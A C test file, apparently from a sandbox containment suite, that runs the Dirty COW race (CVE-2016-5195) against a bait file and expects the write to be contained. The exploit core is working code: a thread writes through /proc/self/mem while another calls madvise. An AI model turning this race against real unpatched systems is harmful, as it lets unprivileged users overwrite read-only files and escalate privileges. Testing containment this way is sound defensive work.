// what: writes to a private read-only mapping through /proc/self/mem while another thread discards it (CVE-2016-5195)
// expect: exited 0
// stdout: contained
// with: proc
#include <pthread.h>
#include <sys/mman.h>

#include "attempt.h"

static char* map;
static void* discard(void* unused) {
  for (int n = 0; n < 20000; ++n) madvise(map, 4096, MADV_DONTNEED);
  return unused;
}

int main(void) {
  const char* victim = getenv("BAIT_FILE");
  int file = open(victim, O_RDONLY);
  map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  int memory = open("/proc/self/mem", O_RDWR);
  pthread_t other;
  pthread_create(&other, NULL, discard, NULL);
  for (int n = 0; n < 20000; ++n) pwrite(memory, "DIRTY", 5, (off_t)map);
  pthread_join(other, NULL);
  char text[16] = {0};
  pread(file, text, sizeof text - 1, 0);
  attempt(strstr(text, "DIRTY") != NULL, "the file changed");
  return contained();
}
